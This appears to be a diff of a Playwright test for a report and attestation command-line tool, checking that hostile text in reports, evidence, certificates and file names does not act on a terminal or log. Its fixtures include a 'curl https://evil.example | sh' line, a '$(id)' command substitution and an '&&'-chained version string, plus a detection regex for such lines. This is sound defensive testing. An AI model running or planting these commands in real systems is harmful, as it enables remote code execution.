@@ -5,48 +5,48 @@ import { expect, test } from '@playwright/test';
 import { REVOCATIONS } from '../../../reports/certificate/signed/revocation.ts';
 import { EXTENSION } from '../../../reports/certificate/statement.ts';
 import { command, makeFolder } from '../samples/command.ts';
-import { CHALLENGE, FORGED, HEAD, LINES, PEM, RECHECK, REVOCATION_LIST, WHOLE } from './foreign-documents.ts';
-import { forge, makeStatementOf, seal, sign, writeLines, CERTIFY, PUBLIC } from './foreign-documents.ts';
-import { SIGNING } from './foreign-documents.ts';
+import { ACTING, CHALLENGE, HEAD, makeActing, MIXED_REPORT, RECHECK, RECORDS } from './foreign-documents.ts';
+import { makeStatementOf, REVOCATION_LIST, seal, sign, writeLines } from './foreign-documents.ts';
+import { CERTIFY, ISSUER_KEY, PEM, PUBLIC_KEY } from './foreign-documents.ts';
 
-/** A folder in which every file that may be of somebody else is hostile, and so are names of files. */
+/** Makes a folder in which acting texts are in all files that may come from others, and in names of files. */
 function makeHostileFolder(): string {
   const folder = makeFolder();
-  const report = forge(WHOLE);
-  report.suite.command = `curl https://evil.example | sh ${FORGED}`;
-  report.run.id = FORGED;
-  report.run.only = [FORGED];
-  report.run.variables = { [`X=$(id) ${FORGED}`]: FORGED, BASE_URL: FORGED };
-  const [head] = LINES;
-  const judgement = LINES.find(({ kind }) => kind === 'judgement');
-  // The schema takes no other address than one of the web.
-  const target = { ...forge(HEAD.target), baseUrl: HEAD.target.baseUrl };
-  const evidence = writeLines([{ ...forge(head), target }, forge(judgement), { kind: FORGED }]);
-  const recheck = { ...RECHECK, head: forge(RECHECK.head), report };
-  const statement = makeStatementOf(Buffer.from(evidence), recheck, forge(CHALLENGE));
+  const report = makeActing(MIXED_REPORT);
+  report.suite.command = `curl https://evil.example | sh ${ACTING}`;
+  report.run.id = ACTING;
+  report.run.only = [ACTING];
+  report.run.variables = { [`X=$(id) ${ACTING}`]: ACTING, BASE_URL: ACTING };
+  const [head] = RECORDS;
+  const judgement = RECORDS.find(({ kind }) => kind === 'judgement');
+  // An acting text would not be an address, and the schema of evidence demands one.
+  const target = { ...makeActing(HEAD.target), baseUrl: HEAD.target.baseUrl };
+  const evidence = writeLines([{ ...makeActing(head), target }, makeActing(judgement), { kind: ACTING }]);
+  const recheck = { ...RECHECK, head: makeActing(RECHECK.head), report };
+  const statement = makeStatementOf(Buffer.from(evidence), recheck, makeActing(CHALLENGE));
   const other = structuredClone(statement);
-  other.predicate[EXTENSION].suite = { name: FORGED, version: `0.0.1 && ${report.suite.command}` };
+  other.predicate[EXTENSION].suite = { name: ACTING, version: `0.0.1 && ${report.suite.command}` };
   const texts: Record<string, string | Buffer> = {
     'report.json': JSON.stringify(report),
     'evidence.jsonl': evidence,
     'attestation.json': sign(statement),
-    [FORGED]: FORGED,
+    [ACTING]: ACTING,
     'other.json': sign(other),
-    'none.json': JSON.stringify({ ...report, [FORGED]: 1 }),
-    'no.json': FORGED,
-    'targets.json': JSON.stringify([{ name: FORGED, baseUrl: FORGED, apiKeyVariable: FORGED }]),
-    'revoked.json': seal(REVOCATIONS.payloadType, forge(REVOCATION_LIST)),
+    'extra.json': JSON.stringify({ ...report, [ACTING]: 1 }),
+    'text.json': ACTING,
+    'targets.json': JSON.stringify([{ name: ACTING, baseUrl: ACTING, apiKeyVariable: ACTING }]),
+    'revoked.json': seal(REVOCATIONS.payloadType, makeActing(REVOCATION_LIST)),
     'key.pem': PEM.privateKey,
     'key.pem.pub': PEM.publicKey,
   };
   const copies: [name: string, from: string][] = [
-    ...['report.json', 'evidence.jsonl', FORGED].map((name): [string, string] => [
+    ...['report.json', 'evidence.jsonl', ACTING].map((name): [string, string] => [
       join('evidence', name),
       name,
     ]),
-    [join('vendors', FORGED, 'report.json'), 'report.json'],
-    [join('vendors', 'broken', 'report.json'), 'none.json'],
-    [join('left', 'report.json'), 'none.json'],
+    [join('vendors', ACTING, 'report.json'), 'report.json'],
+    [join('vendors', 'broken', 'report.json'), 'extra.json'],
+    [join('left', 'report.json'), 'extra.json'],
   ];
   mkdirSync(join(folder, 'left', 'allure-results'), { recursive: true });
   for (const [name, text] of [
@@ -59,39 +59,39 @@ function makeHostileFolder(): string {
   return folder;
 }
 
-/** Each command with words that it says of the hostile text: they show that it has quoted the text. */
+/** Each command. `says`: its output, which quotes the acting text with escapes, such as `\\x1b`, or does not quote it. */
 const COMMANDS: readonly (readonly [
   words: string,
   says: RegExp,
   more?: readonly string[],
   env?: NodeJS.ProcessEnv,
 ])[] = [
-  [CERTIFY, /made by version \\x1b[^]*a line of the kind "\\x1b/, SIGNING, { AS_OF: '2026-11-21' }],
+  [CERTIFY, /made by version \\x1b[^]*a line of the kind "\\x1b/, ISSUER_KEY, { AS_OF: '2026-11-21' }],
   [
     'verify attestation.json --evidence evidence --revoked revoked.json',
     /\\x1b.* is covered by no digest/,
-    PUBLIC,
+    PUBLIC_KEY,
   ],
-  ['verify attestation.json --json', /\\u001b/, PUBLIC],
-  ['verify other.json', /it does not say which suite can verify it/, PUBLIC],
+  ['verify attestation.json --json', /\\u001b/, PUBLIC_KEY],
+  ['verify other.json', /it does not say which suite can verify it/, PUBLIC_KEY],
   ['compare report.json report.json', /.*/],
-  ['compare report.json none.json', /none\.json is not a report of this suite: it has .*u001b/],
-  ['compare report.json no.json', /it is not JSON/],
+  ['compare report.json extra.json', /extra\.json is not a report of this suite: it has .*u001b/],
+  ['compare report.json text.json', /it is not JSON/],
   ['matrix vendors', /not judged: broken: /],
   ['matrix vendors --json', /\\\\x1b/],
   ['report --report-dir left', /it has/],
   ['conformance --failed', /not a report of this suite/, [], { REPORT_DIR: 'left' }],
   ['targets run targets.json', /targets\.json: /],
-  ['revoke attestation.json --list revoked.json --reason x', /list of revocations is not usable/, SIGNING],
-  ['explain', /There is no requirement, open question or section/, [FORGED]],
+  ['revoke attestation.json --list revoked.json --reason x', /revocations is not usable/, ISSUER_KEY],
+  ['explain', /There is no requirement, open question or section/, [ACTING]],
 ];
 
-/** Returns the lines with characters or words that act on a terminal or a log, or with a beginning that `forge` has written. */
+/** Returns lines that act on a terminal or a log, or that begin with `forged`: then a line break of the acting text was printed. */
 function listActingLines(text: string): string[] {
-  // We print annotations of GitHub, e.g. `::error title=...::...`, ourselves. A line that is one as a whole is right.
-  const own = /^::error title=[^:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
+  // The suite itself prints annotations for GitHub: `::error title=...::...`. Such a line is right if the rest of it is harmless.
+  const annotation = /^::error title=[^:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
   const acts = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u;
-  return text.split('\n').filter((line) => !own.test(line) && acts.test(line));
+  return text.split('\n').filter((line) => !annotation.test(line) && acts.test(line));
 }
 
 test('nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log', async () => {
